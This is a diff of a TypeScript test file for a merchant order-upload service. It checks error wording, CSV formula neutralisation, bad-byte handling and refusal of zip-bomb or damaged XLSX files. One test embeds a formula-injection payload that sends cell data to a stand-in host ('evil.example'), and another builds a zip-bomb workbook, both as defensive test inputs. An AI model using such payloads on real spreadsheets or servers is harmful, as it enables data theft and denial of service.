@@ -1,7 +1,18 @@
+import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTestMerchant, createTestPlatform, http, type TestPlatform } from '../../../testing';
+import { isFormulaLike } from '../../../platform/table-writer';
+import {
+  createTestMerchant,
+  createTestPlatform,
+  hostileXlsx,
+  http,
+  packPart,
+  workbookParts,
+  zipOf,
+  type TestPlatform,
+} from '../../../testing';
 import { mapColumns, normaliseHeader } from './column-mapping';
 import { processQueuedUpload } from './service';
 
@@ -170,7 +181,12 @@ describe('order upload', () => {
     const csv = csvOf(rows);
     const dry = await upload(platform, merchant.token, { content: csv, name: 'o.csv' }, { dry_run: 'true' });
     expect(dry.body).toMatchObject({ rows_total: 2_400, orders_total: 800 });
-    expect(dry.body.errors).toEqual([expect.objectContaining({ row: 1_607, column: 'E-mailadres' })]);
+    // Every line of the order is rejected with it; the line at fault says why.
+    expect(dry.body.errors).toEqual([
+      { row: 7, column: null, reason: 'order S-005 is invalid (row 1607)' },
+      { row: 807, column: null, reason: 'order S-005 is invalid (row 1607)' },
+      expect.objectContaining({ row: 1_607, column: 'E-mailadres' }),
+    ]);
     expect(await leftovers(merchant.user.organization.id)).toEqual({ uploads: 0, parked: 0 });
 
     const res = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
@@ -234,9 +250,9 @@ describe('order upload', () => {
       },
     );
     expect(rejected.status).toBe(200);
-    const lines = String(rejected.body).trim().split('\n');
-    expect(lines[0]).toBe(['row', 'reason', 'column', ...HEADERS].join(','));
-    expect(lines[1]).toMatch(/^4,.*country.*,Pays,B-2,/);
+    const [header, ...lines] = parse(String(rejected.body), {}) satisfies string[][];
+    expect(header).toEqual(['row', 'reason', 'column', ...HEADERS]);
+    expect(lines).toEqual([['4', expect.stringContaining('country'), 'Pays', ...row('B-2', { 6: 'XX' })]]);
 
     const status = await http(platform.baseUrl, 'GET', `/api/orders/uploads/${first.body.upload.id}`, {
       token: merchant.token,
@@ -275,6 +291,7 @@ describe('order upload', () => {
     ]);
     const dry = await upload(platform, merchant.token, { content: csv, name: 'o.csv' }, { dry_run: 'true' });
     expect(dry.body.errors).toEqual([
+      { row: 2, column: null, reason: 'order E-1 is invalid (row 3)' },
       {
         row: 3,
         column: 'E-mailadres',
@@ -289,11 +306,7 @@ describe('order upload', () => {
 
     const res = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
     expect(res.body.upload).toMatchObject({ created_count: 3, rejected_count: 3 });
-    expect(res.body.errors).toEqual([
-      { row: 2, column: null, reason: 'order E-1 is invalid (row 3)' },
-      expect.objectContaining({ row: 3, column: 'E-mailadres' }),
-      expect.objectContaining({ row: 4, column: 'Woonplaats' }),
-    ]);
+    expect(res.body.errors).toEqual(dry.body.errors);
     const orders = async (q: string) =>
       (await http(platform.baseUrl, 'GET', `/api/orders?q=${q}`, { token: merchant.token })).body.items;
     expect(await orders('E-1')).toHaveLength(0);
@@ -547,4 +560,157 @@ describe('order upload', () => {
     expect(events.filter((e) => e.type === 'order_upload.progress').length).toBeGreaterThan(10);
     expect(events.filter((e) => e.type === 'order_upload.completed')).toHaveLength(1);
   }, 240_000);
+
+  /** The rejected rows of an upload as { row, column, reason }, read back from rejected.csv. */
+  async function rejectedCsv(token: string, uploadId: string) {
+    const res = await http(platform.baseUrl, 'GET', `/api/orders/uploads/${uploadId}/rejected.csv`, {
+      token,
+    });
+    const [, ...records] = parse(String(res.body), {}) satisfies string[][];
+    return {
+      records,
+      errors: records.map(([row, reason, column]) => ({ row: Number(row), column: column || null, reason })),
+    };
+  }
+
+  it('words every row error for the merchant, naming every failing column, alike in the dry run, the real run and rejected.csv', async () => {
+    const merchant = await createTestMerchant(platform);
+    const csv = csvOf([
+      row('W-1', { 2: 'not-mail', 11: '0', 12: 'abc' }), // row 2: three columns wrong
+      row('W-1', { 2: 'not-mail', 9: 'SOCKS' }), // row 3: the order's e-mail is blamed on row 2
+      row('W-2', { 6: '', 11: '1.5' }), // row 4: no country, half a unit
+      row('W-3'), // row 5: fine
+    ]);
+    const dry = await upload(platform, merchant.token, { content: csv, name: 'o.csv' }, { dry_run: 'true' });
+    const real = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
+    const fromCsv = await rejectedCsv(merchant.token, real.body.upload.id);
+    expect(dry.body.errors).toEqual([
+      {
+        row: 2,
+        column: 'E-mailadres, Aantal, Prix (en centimes)',
+        reason:
+          'customer_email must be an e-mail address such as anna@example.nl, not "not-mail"; ' +
+          'quantity must be a whole number of at least 1 and at most 100,000, not "0"; ' +
+          'unit_price_minor must be a whole number of cents, 0 or more (1999 for 19.99), not "abc"',
+      },
+      { row: 3, column: null, reason: 'order W-1 is invalid (row 2)' },
+      {
+        row: 4,
+        column: 'Pays, Aantal',
+        reason:
+          'country is empty: it must be a two-letter country code such as NL; ' +
+          'quantity must be a whole number of at least 1 and at most 100,000, not "1.5"',
+      },
+    ]);
+    expect(real.body.errors).toEqual(dry.body.errors);
+    expect(fromCsv.errors).toEqual(dry.body.errors);
+    // The validator's own words ("Too small: expected number to be >=1", "received NaN") never reach a merchant.
+    expect(JSON.stringify(dry.body.errors)).not.toMatch(/Too small|Invalid|expected|received|NaN|>=/);
+  });
+
+  it('neutralises formula cells in rejected.csv, and reads a fixed rejected.csv back as the merchant wrote it', async () => {
+    const merchant = await createTestMerchant(platform);
+    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+    const csv = csvOf([row('F-1', { 1: hyperlink, 2: 'not-mail', 10: '@SUM(1,2)' })]);
+    const first = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
+    const { records } = await rejectedCsv(merchant.token, first.body.upload.id);
+    expect(records.flat().filter((cell) => isFormulaLike(cell))).toEqual([]);
+    expect(records[0]?.slice(3, 6)).toEqual(['F-1', `'${hyperlink}`, 'not-mail']);
+
+    // The merchant fixes the e-mail in the downloaded file and uploads it again.
+    const fixed = records.map((r) => r.map((cell) => (cell === 'not-mail' ? 'anna@example.nl' : cell)));
+    const again = await upload(platform, merchant.token, {
+      content: csvOf(fixed, ['row', 'reason', 'column', ...HEADERS]),
+      name: 'fixed.csv',
+    });
+    expect(again.body.upload).toMatchObject({ created_count: 1, rejected_count: 0 });
+    const [order] = (await http(platform.baseUrl, 'GET', '/api/orders?q=F-1', { token: merchant.token })).body
+      .items;
+    expect(order.customer.name).toBe(hyperlink);
+    expect(order.items[0].name).toBe('@SUM(1,2)');
+  });
+
+  it('reports a NUL or a byte that is not UTF-8 in a cell as a row error naming the column, never a 500', async () => {
+    const merchant = await createTestMerchant(platform);
+    const csv = Buffer.concat([
+      Buffer.from(csvOf([row('N-1', { 1: 'Anna\u0000 de Vries' }), row('N-2')])),
+      Buffer.from('N-3;Anna;anna@example.nl;Keizersgracht 1;1015 CJ;Amst'),
+      Buffer.from([0xff, 0xfe]),
+      Buffer.from('rdam;NL;EUR;POSTNL;MUG;Mok;1;899\n'),
+    ]);
+    const unreadable = (field: string) =>
+      `${field} holds characters that are not text (a NUL byte or bytes that are not UTF-8); save the file as CSV UTF-8 or XLSX`;
+    const expected = [
+      { row: 2, column: 'Naam', reason: unreadable('customer_name') },
+      { row: 4, column: 'Woonplaats', reason: unreadable('city') },
+    ];
+    const dry = await upload(platform, merchant.token, { content: csv, name: 'o.csv' }, { dry_run: 'true' });
+    expect(dry.status).toBe(200);
+    expect(dry.body.errors).toEqual(expected);
+    const real = await upload(platform, merchant.token, { content: csv, name: 'o.csv' });
+    expect(real.status).toBe(200);
+    expect(real.body.upload).toMatchObject({ created_count: 1, rejected_count: 2 });
+    expect(real.body.errors).toEqual(expected);
+
+    // A file that is not UTF-8 throughout (Windows-1252, as Excel's plain "CSV" saves it) is refused whole.
+    const latin1 = Buffer.from(csvOf([row('N-4')], ['Straße', ...HEADERS.slice(1)]), 'latin1');
+    const refused = await upload(platform, merchant.token, {
+      content: latin1,
+      name: 'bestellingen.csv\u0000',
+    });
+    expect(refused.status).toBe(422);
+    expect(refused.body.errors).toEqual([expect.objectContaining({ field: 'file', code: 'not_utf8' })]);
+    expect(refused.body.detail).toContain('save it as CSV UTF-8');
+  });
+
+  it('refuses a zip-bomb XLSX and a damaged one with a problem naming the file and the limit, keeping nothing', async () => {
+    const merchant = await createTestMerchant(platform);
+    const bomb = await hostileXlsx({ sharedStringsBytes: 40 * 1_048_576 });
+    expect(bomb.length).toBeLessThan(1_048_576);
+    const res = await fetch(`${platform.baseUrl}/api/orders/upload`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${merchant.token}` },
+      body: (() => {
+        const form = new FormData();
+        form.append('file', new Blob([bomb]), 'bomb.xlsx');
+        return form;
+      })(),
+    });
+    expect(res.status).toBe(422);
+    expect(res.headers.get('content-type')).toContain('application/problem+json');
+    const problem = (await res.json()) as { detail: string; errors: unknown[] };
+    expect(problem.detail).toBe(
+      'bomb.xlsx is refused: its part xl/sharedStrings.xml unpacks to more than 32 MiB, the limit for the shared text of an XLSX upload. Save the sheet again from your spreadsheet program, or upload it as CSV.',
+    );
+    expect(problem.errors).toEqual([
+      expect.objectContaining({ field: 'file', code: 'xlsx_unpacks_too_large' }),
+    ]);
+
+    // Damaged inside the zip (the sheet's packed bytes), and well packed but not XML (exceljs' parser fails).
+    const parts = [
+      ...workbookParts(
+        '<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></rox></sheetData></worksheet>',
+      ),
+      packPart('xl/sharedStrings.xml', '<sst><si><t>merchant_reference</t></si></sst>'),
+    ];
+    const flipped = zipOf(
+      parts.map((p) =>
+        p.name.endsWith('.rels') ? { ...p, packed: Buffer.from(p.packed.map((b) => 255 - b)) } : p,
+      ),
+    );
+    for (const broken of [flipped, zipOf(parts)]) {
+      const damaged = await upload(platform, merchant.token, { content: broken, name: 'kapot.xlsx' });
+      expect(damaged.status).toBe(422);
+      expect(damaged.body.detail).toBe(
+        'kapot.xlsx is refused: it is not a readable XLSX workbook (the file is damaged, or not an Excel file). Save the sheet again from your spreadsheet program, or upload it as CSV.',
+      );
+    }
+    const badQuotes = `${HEADERS.join(';')}\nQ-1;"Anna" de Vries;anna@example.nl\n`;
+    const csv = await upload(platform, merchant.token, { content: badQuotes, name: 'quotes.csv' });
+    expect(csv.status).toBe(422);
+    expect(csv.body.detail).toBe(
+      'quotes.csv is refused: it is not a readable CSV file near line 2 (check the quotes around cells).',
+    );
+    expect(await leftovers(merchant.user.organization.id)).toEqual({ uploads: 0, parked: 0 });
+  });
 });
